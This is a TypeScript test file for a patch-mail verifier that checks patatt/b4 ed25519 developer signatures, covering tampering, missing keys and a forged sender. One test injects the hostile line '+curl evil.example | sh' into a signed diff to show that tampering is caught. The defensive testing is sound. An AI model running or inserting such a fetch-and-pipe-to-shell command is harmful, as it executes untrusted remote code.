import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { silentLogger } from '../../src/shared/log.ts';
import { authenticates } from '../../src/trust/authenticity.ts';
import { mailVerifier } from '../../src/verify/index.ts';
import { patchMail } from '../fakes/source.ts';
import { TestZone } from '../helpers/dkim.ts';
import { tempDir } from '../helpers/tmp.ts';

/** The real patatt (Debian's package; ci/setup --test installs it) makes the keys and signs. */
const havePatatt = (() => {
  try {
    execFileSync('patatt', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    if (process.env.CI === 'true') throw new Error('patatt is not installed: run ci/setup --test');
    return false;
  }
})();

/** A developer with a patatt ed25519 key (selector "laptop"): signs mails as patatt sign does, and
 * the public half sits in a keyring in patatt's layout. */
function developer(email: string) {
  const home = tempDir();
  const env = {
    PATH: process.env.PATH,
    HOME: home,
    GIT_CONFIG_GLOBAL: join(home, 'gitconfig'),
    GIT_CONFIG_NOSYSTEM: '1',
  };
  writeFileSync(
    env.GIT_CONFIG_GLOBAL,
    `[user]\n\tname = Dev\n\temail = ${email}\n[patatt]\n\tsigningkey = ed25519:laptop\n\tselector = laptop\n`,
  );
  execFileSync('patatt', ['genkey', '-n', 'laptop'], { env, stdio: 'ignore' });
  const keyring = join(home, '.local/share/patatt/public');
  return {
    keyring,
    sign: (raw: Buffer) => execFileSync('patatt', ['sign'], { env, input: raw }),
  };
}

const verifier = (keyring: string | null) =>
  mailVerifier({ resolver: new TestZone().resolver, keyring, log: silentLogger() });

describe.skipIf(!havePatatt)('patatt/b4 developer signatures (ed25519, keys from a patatt keyring)', () => {
  it('proves the sender with a signature patatt made, by a key in the keyring', async () => {
    const ada = developer('ada@example.org');
    const signed = ada.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
    const v = await verifier(ada.keyring).verify(signed);
    expect(v.attestation).toEqual([
      { identity: 'ada@example.org', algorithm: 'ed25519-sha256', result: 'pass' },
    ]);
    expect(authenticates(v, [])).toEqual({
      ok: true,
      by: 'a ed25519-sha256 developer signature of ada@example.org',
    });
  });

  it('fails a signed patch whose diff was changed on the way', async () => {
    const ada = developer('ada@example.org');
    const signed = ada.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
    // The diff's line, not the first "+x" anywhere: base64 in the key header may hold one (the
    // test then changed an unsigned header and flaked).
    const changed = Buffer.from(signed.toString().replace(/^\+x$/m, '+curl evil.example | sh'));
    expect(changed.equals(signed)).toBe(false);
    const v = await verifier(ada.keyring).verify(changed);
    expect(v.attestation[0]?.result).toBe('badsig');
    expect(authenticates(v, []).ok).toBe(false);
  });

  it('fails a signature whose subject was changed (signed headers)', async () => {
    const ada = developer('ada@example.org');
    const signed = ada.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
    const changed = Buffer.from(signed.toString().replace('add a', 'add b'));
    expect((await verifier(ada.keyring).verify(changed)).attestation[0]?.result).toBe('badsig');
  });

  it('says nokey for a signer whose key is not in the keyring, and for a key of someone else', async () => {
    const ada = developer('ada@example.org');
    const eve = developer('eve@example.com');
    const signed = ada.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
    expect((await verifier(eve.keyring).verify(signed)).attestation[0]?.result).toBe('nokey');
    expect((await verifier(null).verify(signed)).attestation[0]?.result).toBe('nokey');
  });

  it("does not take Eve's valid signature as proof of Ada's From:", async () => {
    const eve = developer('eve@example.com');
    const forged = eve.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
    // Eve signs as herself (her identity), under Ada's From: line.
    const v = await verifier(eve.keyring).verify(forged);
    expect(v.from).toBe('ada@example.org');
    expect(authenticates(v, []).ok).toBe(false);
  });

  it('finds keys stored by hash (patatt by-hash layout)', async () => {
    const ada = developer('ada@example.org');
    const signed = ada.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
    const byHash = tempDir();
    const { createHash } = await import('node:crypto');
    const { readFileSync } = await import('node:fs');
    const hash = createHash('sha256').update('ed25519/example.org/ada/laptop').digest('hex');
    mkdirSync(join(byHash, 'by-hash', hash.slice(0, 2)), { recursive: true });
    writeFileSync(
      join(byHash, 'by-hash', hash.slice(0, 2), hash.slice(2)),
      readFileSync(join(ada.keyring, 'ed25519/example.org/ada/laptop')),
    );
    expect((await verifier(byHash).verify(signed)).attestation[0]?.result).toBe('pass');
  });
});
